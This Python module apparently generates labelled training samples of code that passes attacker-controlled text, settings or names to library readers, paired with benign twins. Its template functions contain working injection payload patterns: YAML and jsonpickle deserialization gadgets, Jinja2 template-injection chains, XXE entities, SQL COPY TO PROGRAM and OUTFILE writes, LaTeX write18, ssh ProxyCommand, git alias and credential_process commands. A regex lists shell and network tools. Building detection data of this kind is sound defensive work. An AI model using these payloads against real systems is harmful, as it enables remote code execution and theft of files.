"""Callables that nobody has heard of: `carried` in what they read (texts, settings, names), or `handed` over to call.

Every library has readers of templates, formulas, settings and queries, and functions that call what they are given.
No table can have them all: modules are real ones (those of the split's gadgets), names are put together, and what they
are told decides. The honest side asks the same callables for what they are there for.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from functools import partial
from typing import Any

import yaml

from train.corpus.attacks.hidden import hidden_text
from train.corpus.attacks.techniques import Aim
from train.corpus.draw import Draw
from train.corpus.gadgets import payloads
from train.corpus.gadgets.arguments import inner_pickle, target_name
from train.corpus.honest import values
from train.corpus.spelling.expressions import AddItems, Append, Build, Call, New, Ref, SetItems
from train.corpus.spelling.scripts import helper, method, with_keywords

_WORDS = {
    "read": """
        read parse render evaluate eval_expr compile load loads load_config load_string from_string from_json
        from_yaml from_text from_dict decode decode_value deserialize unserialize build instantiate create make
        interpret execute query run_query formula dmatrix model_matrix template render_string substitute expand
        format_text convert resolve resolve_name import_object import_string get_object locate get_class
        load_class lookup transform apply_text process tokenize macro script source run_text submit call
        configure setup register define parse_expr sympify lambdify publish publish_string to_html markdown
        include unpack unpickle_text restore rebuild eval_repr
    """,
    "call": """
        apply map map_values run dispatch submit call each foreach valmap tree_map transform retry subscribe
        invoke trigger notify emit fire pipe compose reduce fold accumulate filter_by sort_by group_by index_by
        register add_hook on_load with_retries cached memoize timed traced defer delayed schedule enqueue
        execute process_items evaluate_all get compute materialize build resolve convert coerce validate
        normalise lazy wrap bind call_later safe_call try_call
    """,
    "nouns": """
        Template Formula Expression Query Config Settings Document Loader Parser Reader Engine Environment
        Compiler Decoder Schema Builder Interpreter Resolver Serializer Renderer Pipeline Runner Dispatcher
        Registry Scheduler Field Column Converter Validator Worker Session Client Store Index Series Table Map
        Tree Graph Node Task Job Hook Signal
    """,
}
_READ, _CALL, _NOUNS = (_WORDS[kind].split() for kind in ("read", "call", "nouns"))


def _function(module: str, verbs: list[str], rng: Draw) -> Ref:
    """Return a function or a class method of a module."""
    name = rng.choice(verbs)
    kind = rng.randrange(8)
    if kind == 0:
        name = f"_{name}"
    elif kind == 1:
        name = f"{name}_{rng.choice(_NOUNS).lower()}"
    elif kind == 2:
        name = f"{rng.choice(_NOUNS)}.{name}"
    return Ref(module, name)


def _object(module: str, rng: Draw) -> Any:
    """Return an object of a class of a module."""
    cls = Ref(module, rng.choice(("", "", "_", "Base", "My")) + rng.choice(_NOUNS))
    if rng.random() < 0.3:
        return New(cls)
    return Call(cls, tuple(values.key(rng) for _ in range(rng.choice((0, 0, 1)))))


_ACTS = re.compile(
    r"__\w+__|\b(system|popen|exec|eval|compile|open|socket|urlopen|rmtree|remove|spawn|environ|subprocess|ctypes|curl|wget"
    r"|bash|sh|rm|nc|cat|touch|echo|chmod|powershell|ssh|crontab|ping|whoami|uname|tar|find|kill|git|pip|nslookup)\b"
)


def _acting(made: Callable[[Draw], str], rng: Draw) -> str:
    """Return a text that shows that it acts: `1+1` in a formula is everybody's."""
    return next((text for _ in range(9) if _ACTS.search(text := made(rng))), "__import__('os').system('id')")


def _shown(text: str, module: str, rng: Draw) -> Any:
    """Return the call of a reader with a text."""
    more = tuple(rng.choice((None, True, 0, {}, values.key(rng))) for _ in range(rng.choice((0, 0, 0, 1, 2))))
    reader = partial(_function, module, _READ, rng)
    said: Any = text if rng.random() < 0.85 else text.encode()
    return rng.template(
        (
            lambda: Call(reader(), (said, *more)),
            lambda: Call(reader(), (said,)),
            lambda: Call(reader(), (values.key(rng), said)),
            lambda: Call(reader(), ({values.key(rng): said},)),
            lambda: Call(reader(), ([said],)),
            lambda: Call(reader(), (said, {values.key(rng): values.scalar(rng)})),
            lambda: Call(reader(), (Call(Ref("io", "StringIO"), (text,)), *more)),
            lambda: method(rng, _object(module, rng), rng.choice(_READ), said, *more),
            lambda: method(rng, _object(module, rng), rng.choice(_READ), said),
            lambda: Call(Call(reader(), (said,)), ()),
            lambda: method(rng, Call(reader(), (said,)), rng.choice(_READ)),
            lambda: Call(Call(helper("functools", "partial", rng), (reader(), said)), more),
            lambda: Call(Build(_object(module, rng), {values.key(rng): said}), ()),
        )
    )()


def _expression(rng: Draw) -> str:
    return payloads.code(rng, expression=True)


def dotted_target(rng: Draw) -> str:
    """Return the dotted name of what an attacker wants to have called."""
    return target_name(rng).replace(":", ".")


def evil_settings(rng: Draw) -> dict[str, Any]:
    """Return settings that name what shall be called."""
    name, argument = dotted_target(rng), _acting(payloads.command, rng)
    w = payloads.word(rng)
    return rng.template(
        (
            lambda: {"_target_": name, w: argument},
            lambda: {"py/reduce": [{"py/function": name}, {"py/tuple": [argument]}]},
            lambda: {"py/object/apply": name, "args": [argument]},
            lambda: {"()": name, w: argument},
            lambda: {"class": name, "args": [argument]},
            lambda: {"class_path": name, "init_args": {w: argument}},
            lambda: {"type": name, "kwargs": {w: argument}},
            lambda: {"module": name.rpartition(".")[0], "callable": name.rpartition(".")[2], "args": [argument]},
            lambda: {"__class__": name, "__init_args__": [argument]},
            lambda: {":type:": w, ":serialized:": base64.b64encode(inner_pickle(rng)).decode()},
            lambda: {"pickle": base64.b64encode(inner_pickle(rng)).decode(), "version": rng.randrange(9)},
            lambda: {"exec": {"command": payloads.argv(rng)[0], "args": payloads.argv(rng)[1:]}},
            lambda: {"on_start": argument, "shell": True},
            lambda: {w: f"__import__('os').system({argument!r})"},
            lambda: {w: _acting(_expression, rng), values.key(rng): values.key(rng)},
            lambda: {"version": 1, "handlers": {w: {"()": name, values.key(rng): argument}}},
            lambda: {"version": 1, "formatters": {w: {"()": name, "format": argument}}},
            lambda: {"func": name, "args": [argument], "kwargs": {}},
            lambda: {"entrypoint": name, "command": argument},
        )
    )()


def plain_settings(rng: Draw) -> dict[str, Any]:
    """Return settings of the same forms that name somebody's class, or nothing."""
    cls = values.class_ref(rng)
    path = f"{cls.module}.{cls.name}"
    return rng.template(
        (
            lambda: {"_target_": path, values.key(rng): rng.random()},
            lambda: {"py/object": path, values.key(rng): values.key(rng)},
            lambda: {"()": path, "level": "INFO"},
            lambda: {"version": 1, "handlers": {values.key(rng): {"class": path, "level": "INFO"}}},
            lambda: {"version": 1, "formatters": {values.key(rng): {"format": "%(message)s", "style": "%"}}},
            lambda: {"func": path, "args": [rng.randrange(9)], "kwargs": {}},
            lambda: {"entrypoint": path, "command": values.key(rng)},
            lambda: {"class": cls.name, "args": [values.key(rng), rng.randrange(9)]},
            lambda: {"class_path": path, "init_args": {values.key(rng): rng.randrange(99)}},
            lambda: {values.key(rng): values.key(rng), values.key(rng): rng.randrange(999)},
            lambda: {"image": base64.b64encode(rng.randbytes(30)).decode(), "version": rng.randrange(9)},
        )
    )()


def _laid_out(settings: dict[str, Any], rng: Draw) -> str:
    """Return settings as JSON or YAML (of which JSON is a part)."""
    text = json.dumps(settings, indent=rng.choice((None, None, 2)))
    return rng.template(
        (
            lambda: text,
            lambda: f"{values.key(rng)}: {text}",
            lambda: f'{{"{values.key(rng)}": {text}, "{values.key(rng)}": {rng.randrange(99)}}}',
            lambda: f"[{text}]",
            lambda: f"# {values.key(rng)}\n{values.key(rng)}: {rng.random():.3f}\n{values.key(rng)}: {text}\n",
            lambda: f"{text}\n{json.dumps({values.key(rng): values.key(rng)})}",
            lambda: yaml.safe_dump(settings, sort_keys=False),
            lambda: yaml.safe_dump(_among(settings, rng), sort_keys=False),
            lambda: json.dumps(_among(settings, rng), indent=rng.choice((None, 2))),
        )
    )()


def _among(settings: dict[str, Any], rng: Draw) -> dict[str, Any]:
    """Return settings among others, a level or two further down."""
    inner: Any = settings if rng.random() < 0.7 else [settings]
    for _ in range(rng.randrange(1, 3)):
        others = {values.key(rng): _other(rng) for _ in range(rng.choice((1, 2, 2, 5)))}
        items = [*others.items(), (values.key(rng), inner)]
        rng.shuffle(items)
        inner = dict(items)
    return dict(inner)


def _other(rng: Draw) -> Any:
    return rng.choice((rng.randrange(99), values.key(rng), True, None, plain_settings(rng)))


def _logging(odd: dict[str, Any], rng: Draw) -> dict[str, Any]:
    """Return a whole configuration of `logging.config` (PEP 391) with one part that is given."""
    level = partial(rng.choice, ("DEBUG", "INFO", "WARNING", "ERROR"))
    config: dict[str, Any] = {
        "version": 1,
        "disable_existing_loggers": rng.random() < 0.5,
        "formatters": {
            "plain": {"format": "%(asctime)s %(levelname)s %(name)s: %(message)s", "datefmt": "%H:%M:%S"},
            values.key(rng): {"format": "{levelname} {message}", "style": "{"},
        },
        "filters": {values.key(rng): {"name": values.class_ref(rng).module}},
        "handlers": {
            "console": {"class": "logging.StreamHandler", "level": level(), "formatter": "plain"},
            values.key(rng): {"class": "logging.FileHandler", "filename": payloads.path(rng), "level": level()},
        },
        "loggers": {values.class_ref(rng).module: {"handlers": ["console"], "level": level(), "propagate": False}},
        "root": {"level": level(), "handlers": ["console"]},
    }
    config[rng.choice(("formatters", "handlers", "filters"))][values.key(rng)] = odd
    return config


def _told(settings: dict[str, Any], module: str, rng: Draw) -> Any:
    """Return the call of something with settings that are objects: a dict, or what has them as attributes."""
    reader = partial(_function, module, _READ, rng)
    whole = rng.choice((lambda: settings, lambda: _among(settings, rng), lambda: _logging(settings, rng)))()
    said: Any = Build(New(Ref(*rng.choice(_HOLDERS))), whole) if rng.random() < 0.2 else whole
    cls = Ref(module, rng.choice(_NOUNS))
    return rng.template(
        (
            lambda: Call(reader(), (said,)),
            lambda: Call(reader(), (said, values.key(rng))),
            lambda: Call(reader(), (values.key(rng), said)),
            lambda: Call(reader(), ([settings],)),
            lambda: Call(cls, (said,)),
            lambda: method(rng, _object(module, rng), rng.choice(_READ), said),
            lambda: method(rng, Call(cls, (said,)), rng.choice(_READ)),
            lambda: method(rng, Build(_object(module, rng), whole), rng.choice(_READ)),
            lambda: with_keywords(reader(), (), whole, rng),
            lambda: Call(Call(helper("functools", "partial", rng), (reader(), said)), ()),
            lambda: SetItems(Call(cls, ()), whole),
        )
    )()


_HOLDERS = (("argparse", "Namespace"), ("types", "SimpleNamespace"))


def _resolved(name: str, arguments: tuple[Any, ...], module: str, rng: Draw) -> Any:
    """Return what a resolver of names gives for a name, called."""
    reader = partial(_function, module, _READ, rng)
    return rng.template(
        (
            lambda: Call(Call(reader(), (name,)), arguments),
            lambda: Call(Call(reader(), (name.rpartition(".")[0], name.rpartition(".")[2])), arguments),
            lambda: Call(reader(), (name, *arguments)),
            lambda: Call(reader(), (name, list(arguments))),
            lambda: Call(reader(), (values.key(rng), name, arguments)),
            lambda: Call(method(rng, _object(module, rng), rng.choice(_READ), name), arguments),
            lambda: method(rng, Call(reader(), (name.rpartition(".")[0],)), name.rpartition(".")[2], *arguments),
            lambda: Call(Build(_object(module, rng), {values.key(rng): name}), arguments),
        )
    )()


def _evil_text(rng: Draw) -> str:
    """Return a text in some language, which runs code, runs a command or gives a file away when it is read."""
    cmd, file, url = _acting(payloads.command, rng), payloads.path(rng), payloads.url(rng)
    code, expr = _acting(payloads.code, rng), _acting(_expression, rng)
    w, v, n = payloads.word(rng), values.key(rng), rng.randrange(99)
    secret = rng.choice(payloads.SECRETS)
    return rng.template(
        (
            lambda: _laid_out(evil_settings(rng), rng),
            lambda: f"{v} ~ {w} + I({expr})",
            lambda: f"{n} + {v} + {{{expr}}}",
            lambda: f"{v} * ({expr} or {n})",
            lambda: f"C({expr}):{v}",
            lambda: f"lambda {v}: {expr}",
            lambda: f"[{expr} for {w[0]} in '{v}']",
            lambda: f"{v} = {expr}",
            lambda: code,
            lambda: f">>> {expr}\n{n}\n",
            lambda: f"Dear {{{{ {expr} }}}},\n{v}",
            lambda: f"{{{{ {w}.__init__.__globals__['__builtins__']['eval']({expr!r}) }}}}",
            lambda: f"{{% set {w[0]} = {v}.__class__.__mro__[-1].__subclasses__() %}}{{{{ {w[0]} }}}}",
            lambda: f"<% {code} %>{v}",
            lambda: f"<p>${{{expr}}}</p>",
            lambda: f"<?python {code} ?>",
            lambda: f"% {code}\n{v}",
            lambda: f"{{{{py: {code}}}}}{v}",
            lambda: f"#set ${w[0]} = {expr}\n",
            lambda: f"{{0.__class__.__init__.__globals__[{w}]}}",
            lambda: f"{v}: !!python/object/apply:{dotted_target(rng)} [{cmd!r}]",
            lambda: f"{v}: !!python/object/new:{dotted_target(rng)}\n  args: [{cmd!r}]\n",
            lambda: f"{v}:\n  {values.key(rng)}: {n}\n  {w}: !!python/object/apply:{dotted_target(rng)}\n  - {cmd}\n",
            lambda: f"{v}:\n  {w}:\n    {values.key(rng)}: !!python/object/apply:{dotted_target(rng)} [{cmd!r}]\n",
            lambda: f"{v}: !<tag:yaml.org,2002:python/name:{dotted_target(rng)}> {n}",
            lambda: f"{target_name(rng)}({cmd!r})",
            lambda: f"COPY {v} TO PROGRAM '{cmd}'",
            lambda: f"COPY (SELECT {n} AS {v}) TO '{file}' (HEADER)",
            lambda: f"SELECT load_extension('{file}')",
            lambda: f"ATTACH DATABASE '{file}' AS {w}; CREATE TABLE {w}.t (x)",
            lambda: f"SELECT '{code}' INTO OUTFILE '{file}'",
            lambda: f"SELECT sys_exec('{cmd}')",
            lambda: f".. include:: {secret}\n",
            lambda: f".. raw:: html\n   :file: {secret}\n",
            lambda: f"\\immediate\\write18{{{cmd}}}",
            lambda: f"\\input{{|{cmd}}}",
            lambda: f'<!DOCTYPE {w} [<!ENTITY {v} SYSTEM "file://{secret}">]><{w}>&{v};</{w}>',
            lambda: f'<!DOCTYPE {w} [<!ENTITY % {v} SYSTEM "{url}"> %{v};]><{w}/>',
            lambda: f"Host {w}\n  ProxyCommand {cmd}\n",
            lambda: f'Match exec "{cmd}"\n  User {v}\n',
            lambda: f"[alias]\n{w} = !{cmd}\n",
            lambda: f"[profile {w}]\ncredential_process = {cmd}\n",
            lambda: f"- hosts: localhost\n  tasks:\n  - shell: {cmd}\n",
            lambda: f"{w}:\n\t{cmd}\n",
            lambda: f"FROM {v}\nRUN {cmd}\n",
            lambda: f"!{cmd}",
            lambda: f"%system {cmd}",
            lambda: f"* * * * * {cmd}",
            lambda: f"[Service]\nExecStart={cmd}\n",
            lambda: f"require('child_process').execSync({cmd!r})",
            lambda: f"os.execute({cmd!r})",
            lambda: f"exec {{*}}{cmd}",
            lambda: f"system({cmd!r})",
            lambda: f"Runtime.getRuntime().exec({cmd!r})",
            lambda: f"<?php system({cmd!r}); ?>",
            lambda: f"run(`{cmd}`)",
            lambda: base64.b64encode(expr.encode()).decode(),
            lambda: f"{w}:{w}({expr})",
        )
    )()


def _plain_text(rng: Draw) -> str:
    """Return a text in the same languages that does what it looks like."""
    v, k, w, n = values.key(rng), values.key(rng), payloads.word(rng), rng.randrange(99)
    cls = values.class_ref(rng)
    path = f"{cls.module}.{cls.name}"
    return rng.template(
        (
            lambda: _laid_out(plain_settings(rng), rng),
            lambda: f"{v} ~ {w} + I({k} ** 2)",
            lambda: f"{n} + {v} + {{{k} * {n}}}",
            lambda: f"{v} * (np.log({k}) or {n})",
            lambda: f"C({k}):{v}",
            lambda: f"lambda {v}: {v} + {n}",
            lambda: f"[{w[0]}.strip() for {w[0]} in {v}]",
            lambda: f"{v} = {k} + {n}",
            lambda: f"def {v}({k}):\n    return {k} * {n}\n",
            lambda: f">>> {v} + {n}\n{n}\n",
            lambda: f"Dear {{{{ {v} }}}},\n{k}",
            lambda: f"{{{{ {v}.{k} | default({n}) }}}}",
            lambda: f"{{% for {w[0]} in {v} %}}{{{{ {w[0]} }}}}{{% endfor %}}",
            lambda: f"<% {v} = {n} %>{k}",
            lambda: f"<p>${{{v}}}</p>",
            lambda: f"#set ${w[0]} = {n}\n",
            lambda: f"{{0.{k}:>{n}}} {{{v}}}",
            lambda: f"{v}: [{n}, {k}]\n{k}: !!str {n}\n",
            lambda: f"{v}:\n  {values.key(rng)}: {n}\n  {w}: !!python/tuple [{n}, {k}]\n",
            lambda: f"{v}:\n  {w}:\n    {k}: [{n}, {k}]\n",
            lambda: f"{cls.module}:{cls.name}",
            lambda: path,
            lambda: f"SELECT {v}, {k} FROM {w} WHERE id = {n}",
            lambda: f"INSERT INTO {w} ({v}) VALUES ({n})",
            lambda: f"CREATE TABLE {w} ({v} INTEGER, {k} TEXT)",
            lambda: f"{v}\n====\n\n* {k}\n* {w}\n",
            lambda: f"\\frac{{{v}}}{{{k}}} + \\alpha^{{{n}}}",
            lambda: f"<{w}><{v} id='{n}'>{k}</{v}></{w}>",
            lambda: f"Host {w}\n  User {v}\n  Port {n}\n",
            lambda: f"[{v}]\n{k} = {n}\n{w} = {k}\n",
            lambda: f"function {v}({k}) {{ return {k} + {n}; }}",
            lambda: values.regex(rng),
            lambda: base64.b64encode(rng.randbytes(24)).decode(),
            lambda: " ".join(values.key(rng) for _ in range(rng.randrange(1, 9))),
        )
    )()


TOLD, RESOLVED = 0.2, 0.3
"""Up to where a random number of 0 to 1 has settings told, and above that names resolved; else a text is read. Attacks
and twins alike."""


def carried(aim: Aim, rng: Draw) -> Any:
    """Have a reader of some library read a text, settings or a name that carries code."""
    way = rng.random()
    if way < TOLD:
        return _told(evil_settings(rng), aim.gadget.module, rng)
    if way < RESOLVED:
        return _resolved(dotted_target(rng), (_acting(payloads.command, rng),), aim.gadget.module, rng)
    text = _evil_text(rng)
    if rng.random() < 0.1:
        return Call(_function(aim.gadget.module, _READ, rng), (hidden_text(text, rng),))
    return _shown(text, aim.gadget.module, rng)


def carried_honestly(module: str, rng: Draw) -> Any:
    """Have the same kind of reader read what it is there for."""
    way = rng.random()
    if way < TOLD:
        return _told(plain_settings(rng), module, rng)
    if way < RESOLVED:
        cls = values.class_ref(rng)
        return _resolved(f"{cls.module}.{cls.name}", (values.scalar(rng),), module, rng)
    return _shown(_plain_text(rng), module, rng)


def _given(module: str, g: Any, arguments: tuple[Any, ...], rng: Draw) -> Any:
    """Return an expression that hands a callable and its arguments to a function of some library."""
    first = arguments[0] if arguments else values.key(rng)
    bound = Call(helper("functools", "partial", rng), (g, *arguments))
    w = values.key(rng)
    call = _function(module, _CALL, rng)
    return rng.template(
        (
            lambda: Call(call, (g, *arguments)),
            lambda: Call(call, (g, list(arguments))),
            lambda: Call(call, (list(arguments), g)),
            lambda: Call(call, (first, g)),
            lambda: Call(call, ((g, *arguments),)),
            lambda: Call(call, ([(g, *arguments)],)),
            lambda: Call(call, ({w: (g, *arguments)}, w)),
            lambda: Call(call, (g, {w: first})),
            lambda: Call(call, ({w: g}, {w: first})),
            lambda: Call(Call(call, (g,)), arguments),
            lambda: Call(call, (bound,)),
            lambda: Call(Call(call, (bound,)), ()),
            lambda: method(rng, _object(module, rng), rng.choice(_CALL), g, *arguments),
            lambda: method(rng, Call(call, (g,)), rng.choice(_CALL), *arguments),
            lambda: method(rng, Build(_object(module, rng), {w: g}), rng.choice(_CALL), *arguments),
            lambda: Call(Build(_object(module, rng), {w: g}), arguments),
            lambda: AddItems(Call(call, ((), g)), (first if isinstance(first, str | bytes | int) else w,)),
            lambda: Append(Call(call, (g,)), (first,)),
            lambda: SetItems(Call(call, (g, w)), {w: first}),
            lambda: Call(call, (w, first, g)),
        )
    )()


def handed(aim: Aim, rng: Draw) -> Any:
    """Hand the gadget to a function that may well call it."""
    module = rng.choice((aim.gadget.module, values.class_ref(rng).module))
    return _given(module, aim.ref, aim.arguments, rng)


def handed_honestly(module: str, rng: Draw) -> Any:
    """Hand over a function of somebody's project, or one that only computes."""
    kept = values.function_ref(rng) if rng.random() < 0.5 else Ref(*rng.choice(_HARMLESS))
    arguments = tuple(values.key(rng) if rng.random() < 0.7 else rng.randrange(99) for _ in range(rng.randrange(1, 3)))
    return _given(rng.choice((module, values.class_ref(rng).module)), kept, arguments, rng)


_HARMLESS = (
    ("builtins", "len"), ("builtins", "str"), ("builtins", "int"), ("builtins", "float"), ("builtins", "str.lower"),
    ("operator", "add"), ("operator", "mul"), ("math", "sqrt"), ("math", "log"), ("numpy", "mean"), ("numpy", "sum"),
    ("numpy", "sqrt"), ("os.path", "basename"), ("os.path", "join"), ("json", "loads"), ("json", "dumps"),
    ("copy", "deepcopy"), ("statistics", "mean"), ("re", "escape"), ("html", "escape"), ("torch", "relu"),
    ("torch.nn.functional", "softmax"), ("scipy.special", "expit"), ("pandas", "to_datetime"), ("builtins", "sorted"),
)  # fmt: skip
